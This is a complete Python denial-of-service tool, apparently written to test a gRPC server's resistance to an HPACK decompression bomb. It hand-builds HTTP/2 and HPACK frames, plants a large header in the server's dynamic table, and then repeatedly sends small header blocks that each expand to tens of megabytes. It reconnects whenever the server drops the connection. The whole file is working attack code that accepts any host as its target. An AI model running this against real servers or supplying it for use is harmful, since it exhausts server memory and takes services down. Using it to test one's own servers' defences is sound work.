#!/usr/bin/env python3
"""A client that makes a gRPC server decode far more header bytes than it receives (HPACK bomb).

Usage:
    hpack_bomb.py --target HOST:PORT [--seconds 8] [--connections 2] [--entry-bytes 4000]

Each connection (frames and HPACK built by hand) first puts one header of --entry-bytes into the
server's HPACK dynamic table with a valid unary call, then opens stream after stream whose request
head is the usual fields plus a 16 KiB header block of one-byte references to that entry: each
block decodes to about 16,000 fields of 4 KB (64 MB), far over any metadata limit. The blocks go
as fast as the server reads them, for --seconds. A connection the server ends is opened again.

It prints one line, then exits 0:
    BOMB blocks=<oversized blocks queued> bytes=<their bytes> connections=<opened>
         goaways=<GOAWAY error code:count,...> resets=<RST_STREAM error code:count,...>
(a connection the server ends takes its queued blocks with it, so fewer may have been read).
"""

import argparse
import select
import socket
import struct
import sys
import time

PREFACE = b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9  # noqa: F841
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
MAX_FRAME = 16384
UNARY_PATH = b'/grpcsync.testing.TestService/Unary'
# The first entry of the dynamic table follows the 61 of the static one (RFC 7541 2.3.3).
FIRST_DYNAMIC_INDEX = 62


def frame(ftype, flags, stream_id, payload=b''):
    return struct.pack('>I', len(payload))[1:] + struct.pack('>BBI', ftype, flags, stream_id) + payload


def integer(value, prefix_bits, first_byte_flags=0):
    """An HPACK integer (RFC 7541 5.1)."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first_byte_flags | value])
    out = bytearray([first_byte_flags | limit])
    value -= limit
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    out.append(value)
    return bytes(out)


def string(data):
    """An HPACK string literal without Huffman coding."""
    return integer(len(data), 7) + data


def literal(name_index, value):
    """A field with an indexed name, literal value, not indexed (RFC 7541 6.2.2)."""
    return integer(name_index, 4) + string(value)


def literal_new_name(name, value):
    """A field with a literal name and value, not indexed."""
    return b'\x00' + string(name) + string(value)


def request_head(authority):
    """The fields of a gRPC request, none of them added to the dynamic table."""
    return (b'\x83'                                  # :method POST (static 3)
            + b'\x86'                                # :scheme http (static 6)
            + literal(4, UNARY_PATH)                 # :path (static name 4)
            + literal(1, authority)                  # :authority (static name 1)
            + literal(31, b'application/grpc')       # content-type (static name 31)
            + literal_new_name(b'te', b'trailers'))


def header_frames(stream_id, block, end_stream):
    chunks = [block[i:i + MAX_FRAME] for i in range(0, len(block), MAX_FRAME)] or [b'']
    out = b''
    for i, chunk in enumerate(chunks):
        flags = END_HEADERS if i == len(chunks) - 1 else 0
        if i == 0:
            out += frame(HEADERS, flags | (END_STREAM if end_stream else 0), stream_id, chunk)
        else:
            out += frame(CONTINUATION, flags, stream_id, chunk)
    return out


class Bomb:
    def __init__(self, target, entry_bytes, report):
        host, _, port = target.rpartition(':')
        self.sock = socket.create_connection((host.strip('[]'), int(port)), timeout=5)
        self.sock.setblocking(False)
        self.report = report
        report['connections'] += 1
        self.inbuf = b''
        self.closed = False
        authority = target.encode()
        head = request_head(authority)
        # Incremental indexing (6.2.1) puts the entry into the server's table.
        entry = b'\x40' + string(b'x-bomb') + string(b'b' * entry_bytes)
        message = struct.pack('>BI', 0, 4) + b'ping'
        self.out = bytearray(PREFACE + frame(SETTINGS, 0, 0)
                             + header_frames(1, head + entry, end_stream=False)
                             + frame(DATA, END_STREAM, 1, message))
        self.next_id = 3
        references = bytes([0x80 | FIRST_DYNAMIC_INDEX]) * (MAX_FRAME - len(head))
        self.bomb_block = head + references

    def queue_bomb(self):
        self.out += header_frames(self.next_id, self.bomb_block, end_stream=True)
        self.next_id += 2
        self.report['blocks'] += 1
        self.report['bytes'] += len(self.bomb_block)

    def read(self):
        try:
            chunk = self.sock.recv(1 << 16)
        except (BlockingIOError, InterruptedError):
            return
        except OSError:
            chunk = b''
        if not chunk:
            self.closed = True
            return
        self.inbuf += chunk
        while len(self.inbuf) >= 9:
            length = int.from_bytes(self.inbuf[:3], 'big')
            if len(self.inbuf) < 9 + length:
                break
            ftype, flags = self.inbuf[3], self.inbuf[4]
            payload = self.inbuf[9:9 + length]
            self.inbuf = self.inbuf[9 + length:]
            if ftype == SETTINGS and not flags & ACK:
                self.out += frame(SETTINGS, ACK, 0)
            elif ftype == PING and not flags & ACK:
                self.out += frame(PING, ACK, 0, payload)
            elif ftype == GOAWAY and len(payload) >= 8:
                count(self.report['goaways'], struct.unpack('>I', payload[4:8])[0])
            elif ftype == RST_STREAM and len(payload) >= 4:
                count(self.report['resets'], struct.unpack('>I', payload[:4])[0])

    def pump(self):
        """Keeps about 64 KiB of blocks queued; returns the socket's wanted events."""
        while len(self.out) < 65536:
            self.queue_bomb()
        try:
            sent = self.sock.send(self.out)
            del self.out[:sent]
        except (BlockingIOError, InterruptedError):
            pass
        except OSError:
            self.closed = True


def count(table, key):
    table[key] = table.get(key, 0) + 1


def main():
    parser = argparse.ArgumentParser(description=__doc__.split('\n')[0])
    parser.add_argument('--target', required=True)
    parser.add_argument('--seconds', type=float, default=8)
    parser.add_argument('--connections', type=int, default=2)
    parser.add_argument('--entry-bytes', type=int, default=4000)
    args = parser.parse_args()
    report = {'blocks': 0, 'bytes': 0, 'connections': 0, 'goaways': {}, 'resets': {}}
    bombs = [Bomb(args.target, args.entry_bytes, report) for _ in range(args.connections)]
    end = time.monotonic() + args.seconds
    while time.monotonic() < end:
        for i, bomb in enumerate(bombs):
            if bomb.closed:
                bomb.sock.close()
                bombs[i] = bomb = Bomb(args.target, args.entry_bytes, report)
        socks = [b.sock for b in bombs]
        readable, writable, _ = select.select(socks, socks, [], 0.05)
        for bomb in bombs:
            if bomb.sock in readable:
                bomb.read()
            if bomb.sock in writable and not bomb.closed:
                bomb.pump()
    for bomb in bombs:
        bomb.sock.close()

    def table(t):
        return ','.join('%s:%d' % (k, v) for k, v in sorted(t.items())) or 'none'

    print('BOMB blocks=%d bytes=%d connections=%d goaways=%s resets=%s'
          % (report['blocks'], report['bytes'], report['connections'], table(report['goaways']),
             table(report['resets'])), flush=True)
    return 0


if __name__ == '__main__':
    sys.exit(main())
